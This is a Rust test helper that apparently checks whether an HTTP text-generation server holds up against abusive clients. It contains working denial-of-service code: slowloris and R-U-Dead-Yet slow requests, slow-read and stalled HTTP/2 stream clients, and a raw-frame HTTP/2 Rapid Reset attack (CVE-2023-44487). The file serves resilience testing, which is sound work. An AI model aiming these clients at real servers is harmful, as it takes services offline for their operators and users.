//! Clients that mean no good, each with a connection, and another when that is closed.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering::Relaxed};
use std::thread;
use std::time::Duration;

use hyper::Request;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::watch;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

/// Bytes that are buffered by the kernel for a client that does not read.
const SMALL: u32 = 4096;
/// A trickler sends a byte so often.
const DRIP: Duration = Duration::from_secs(2);
/// After a connection was closed or refused.
const AGAIN: Duration = Duration::from_millis(100);

/// What a client does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Deed {
    /// Nothing.
    Idle,
    /// A head, byte by byte (slowloris).
    Head,
    /// Nearly all that a head may have, and then nothing.
    LargeHead,
    /// A body of 2 MiB is announced, and comes byte by byte (R-U-Dead-Yet).
    Body,
    /// Most of a body of 2 MiB, and then nothing.
    LargeBody,
    /// Answers are asked for and not read (slow read).
    Unread,
    /// 256 requests of HTTP/2 whose bodies do not come.
    Streams,
}

/// A crowd in a thread of its own.
#[derive(Debug)]
pub struct Crowd {
    stop: watch::Sender<bool>,
    opened: Arc<AtomicUsize>,
    thread: Option<thread::JoinHandle<()>>,
}

impl Crowd {
    /// So many clients, who do these things in turn.
    ///
    /// # Panics
    /// There can be no more threads.
    pub fn start(address: SocketAddr, clients: usize, deeds: &'static [Deed]) -> Self {
        let (stop, stopped) = watch::channel(false);
        let opened = Arc::new(AtomicUsize::new(0));
        let count = opened.clone();
        let run = move || {
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
            runtime.block_on(async {
                let mut crowd = JoinSet::new();
                for nth in 0..clients {
                    crowd.spawn(hostile(address, deeds[nth % deeds.len()], count.clone(), stopped.clone()));
                    if nth % 16 == 0 {
                        sleep(Duration::from_millis(2)).await;
                    }
                }
                crowd.join_all().await;
            });
        };
        let thread = Some(thread::Builder::new().name("hostile".to_owned()).spawn(run).expect("a thread"));
        Self { stop, opened, thread }
    }

    /// Connections that were opened.
    pub fn opened(&self) -> usize {
        self.opened.load(Relaxed)
    }
}

impl Drop for Crowd {
    fn drop(&mut self) {
        self.stop.send_replace(true);
        let _ = self.thread.take().map(thread::JoinHandle::join);
    }
}

async fn hostile(address: SocketAddr, deed: Deed, opened: Arc<AtomicUsize>, mut stopped: watch::Receiver<bool>) {
    let act = async {
        loop {
            if let Some(stream) = connect(address).await {
                opened.fetch_add(1, Relaxed);
                // Until it is hung up on.
                let _ = commit(deed, stream).await;
            }
            sleep(AGAIN).await;
        }
    };
    tokio::select! {
        () = act => {}
        _ = stopped.wait_for(|&stopped| stopped) => {}
    }
}

async fn connect(address: SocketAddr) -> Option<TcpStream> {
    let socket = TcpSocket::new_v4().ok()?;
    socket.set_recv_buffer_size(SMALL).ok()?;
    socket.connect(address).await.ok()
}

async fn commit(deed: Deed, mut stream: TcpStream) -> std::io::Result<()> {
    const HEAD: &[u8] = b"POST /generate HTTP/1.1\r\nhost: a\r\n";
    const LARGE: &[u8] = b"content-length: 2097152\r\n\r\n";
    match deed {
        Deed::Idle => closed(&mut stream).await,
        Deed::Head => {
            stream.write_all(HEAD).await?;
            drip(&mut stream).await
        }
        Deed::LargeHead => {
            let header = [b"x: ".as_slice(), &[b'a'; 1000], b"\r\n"].concat();
            stream.write_all(&[HEAD, &header.repeat(15)].concat()).await?;
            closed(&mut stream).await
        }
        Deed::Body => {
            stream.write_all(&[HEAD, LARGE].concat()).await?;
            drip(&mut stream).await
        }
        Deed::LargeBody => {
            stream.write_all(&[HEAD, LARGE].concat()).await?;
            let (mut reader, mut writer) = stream.split();
            let (most, mut answer) = (vec![b' '; 2_000_000], [0; 512]);
            tokio::select! {
                sent = writer.write_all(&most) => sent?,
                read = reader.read(&mut answer) => return read.map(drop),
            }
            closed(&mut stream).await
        }
        Deed::Unread => {
            let text: Vec<_> = (0..200).map(|word| format!("w{word}")).collect();
            let body = json!({"text": text.join(" "), "max_new_tokens": 200}).to_string();
            let head = format!("POST /generate_stream HTTP/1.1\r\nhost: a\r\ncontent-length: {}\r\n\r\n", body.len());
            stream.write_all(format!("{head}{body}").as_bytes()).await?;
            // Without reading: whether the connection is there shows when something is sent.
            loop {
                sleep(DRIP).await;
                stream.write_all(b"\r").await?;
            }
        }
        Deed::Streams => {
            let (mut client, connection) = h2::client::handshake(stream).await.map_err(std::io::Error::other)?;
            let asking = async {
                let mut begun = Vec::new();
                for _ in 0..256 {
                    client = client.ready().await?;
                    begun.push(client.send_request(post(), false)?);
                }
                std::future::pending::<()>().await;
                drop(begun);
                Ok::<_, h2::Error>(())
            };
            tokio::select! {
                ended = connection => ended.map_err(std::io::Error::other),
                asked = asking => asked.map_err(std::io::Error::other),
            }
        }
    }
}

/// Waits for the other side to close.
async fn closed(stream: &mut TcpStream) -> std::io::Result<()> {
    let mut bytes = [0; 512];
    while stream.read(&mut bytes).await? > 0 {}
    Ok(())
}

/// Sends a byte now and then, until the other side closes.
async fn drip(stream: &mut TcpStream) -> std::io::Result<()> {
    let mut bytes = [0; 512];
    loop {
        match timeout(DRIP, stream.read(&mut bytes)).await {
            Ok(read) => {
                if read? == 0 {
                    return Ok(());
                }
            }
            Err(_) => stream.write_all(b"a").await?,
        }
    }
}

fn post() -> Request<()> {
    Request::post("http://a/generate").body(()).expect("a request")
}

/// Requests of HTTP/2 over so many connections that are reset as soon as they are made (CVE-2023-44487), until the server has
/// taken so many. How many it has, and how many connections that took.
pub async fn resets(address: SocketAddr, connections: usize, requests: usize) -> (usize, usize) {
    let (taken, opened) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
    let mut resetting = JoinSet::new();
    for _ in 0..connections {
        let (taken, opened) = (taken.clone(), opened.clone());
        resetting.spawn(async move {
            while taken.load(Relaxed) < requests {
                if let Some(stream) = connect(address).await {
                    opened.fetch_add(1, Relaxed);
                    taken.fetch_add(reset(stream).await.unwrap_or(0), Relaxed);
                }
            }
        });
    }
    resetting.join_all().await;
    (taken.load(Relaxed), opened.load(Relaxed))
}

/// Sends a thousand requests and their resets, or as many as are taken. How many were.
async fn reset(stream: TcpStream) -> std::io::Result<usize> {
    const REQUESTS: u32 = 1000;
    // HEADERS of POST http://a/generate, and RST_STREAM, CANCEL (RFC 9113, section 6; RFC 7541, appendix A).
    let fields = b"\x83\x86\x04\x09/generate\x01\x01a";
    let mut frames = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0".to_vec();
    for stream in (1..).step_by(2).take(1000) {
        let stream = u32::to_be_bytes(stream);
        frames.extend_from_slice(&[0, 0, u8::try_from(fields.len()).expect("few"), 1, 4]);
        frames.extend_from_slice(&stream);
        frames.extend_from_slice(fields);
        frames.extend_from_slice(&[0, 0, 4, 3, 0]);
        frames.extend_from_slice(&stream);
        frames.extend_from_slice(&[0, 0, 0, 8]);
    }
    let (mut reader, mut writer) = stream.into_split();
    let mut answer = Vec::new();
    let (_, read) = tokio::join!(
        async {
            // Where it is hung up on in between, what is not written is not taken.
            let _ = writer.write_all(&frames).await;
            writer.shutdown().await
        },
        reader.read_to_end(&mut answer)
    );
    // A connection that is hung up on may end with an error, after its last words.
    let _ = read;
    Ok(last_taken(&answer).map_or(REQUESTS, |last| last.div_ceil(2)) as usize)
}

/// The last stream that a server has taken, by its GOAWAY.
fn last_taken(mut frames: &[u8]) -> Option<u32> {
    while let Some((head, rest)) = frames.split_at_checked(9) {
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        let (payload, rest) = rest.split_at_checked(length)?;
        if head[3] == 7 {
            let last = payload.first_chunk::<4>()?;
            return Some(u32::from_be_bytes(*last));
        }
        frames = rest;
    }
    None
}

/// As many honest requests, of which so many go on at once on each connection.
///
/// # Panics
/// One is not answered with 200.
pub async fn honest_http2(address: SocketAddr, connections: usize, at_once: usize, requests: usize) {
    let left = Arc::new(AtomicUsize::new(requests));
    let mut asking = JoinSet::new();
    for _ in 0..connections {
        let client = crate::client::Client::http2(address);
        for _ in 0..at_once {
            let (client, left) = (client.clone(), left.clone());
            asking.spawn(async move {
                while left.fetch_update(Relaxed, Relaxed, |left| left.checked_sub(1)).is_ok() {
                    assert_eq!(client.generate(&json!({"text": "a b c d"})).await.status, 200);
                }
            });
        }
    }
    asking.join_all().await;
}
